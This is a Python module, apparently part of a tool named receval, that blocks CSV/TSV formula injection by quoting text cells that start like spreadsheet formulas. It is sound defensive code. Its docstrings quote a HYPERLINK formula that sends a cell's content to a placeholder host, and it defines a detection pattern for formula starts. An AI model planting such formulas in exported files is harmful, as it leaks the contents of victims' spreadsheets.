"""CSV/TSV formula injection: text cells a spreadsheet would run as a formula get a quote first.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return followed by one) as a formula: ``=HYPERLINK("http://x?"&A1, "y")``
in an id becomes a live link that sends a cell's content away. The OWASP rule, applied here to
every *text* cell (ids, model names, header cells) of a CSV or TSV receval writes: prefix a
single quote, which spreadsheets show as text. Numbers are never touched (``-1`` as a number
stays ``-1``); ``raw=True`` in the writers, ``--raw-csv`` on the command line, writes text
cells as they are.
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc

#: the first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = "^[=+\\-@\t\r]"


def neutralise_cell(cell: str) -> str:
    """``cell`` with a ``'`` in front when it starts like a formula, else unchanged.

    Example:
        >>> neutralise_cell('=HYPERLINK("http://x","y")')
        '\\'=HYPERLINK("http://x","y")'
        >>> [neutralise_cell(c) for c in ("-1", "+1", "@SUM(1)", "u-1", "P@10")]
        ["'-1", "'+1", "'@SUM(1)", 'u-1', 'P@10']
    """
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def neutralise_table(table: pa.Table) -> pa.Table:
    """``table`` with every string cell and column name neutralised (:func:`neutralise_cell`);
    numeric, boolean and other columns unchanged.

    Example:
        >>> import pyarrow as pa
        >>> t = neutralise_table(pa.table({"user": ["=1+1", "u2"], "-P": [-1.0, 2.0]}))
        >>> t.column_names, t.column("user").to_pylist(), t.column(1).to_pylist()
        (['user', "'-P"], ["'=1+1", 'u2'], [-1.0, 2.0])
    """
    columns = []
    for column in table.columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column = column.cast(kind.value_type)
            kind = kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.match_substring_regex(column, _PATTERN)
            quoted = pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind))
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    names = [neutralise_cell(name) for name in table.column_names]
    return pa.Table.from_arrays(columns, names=names)
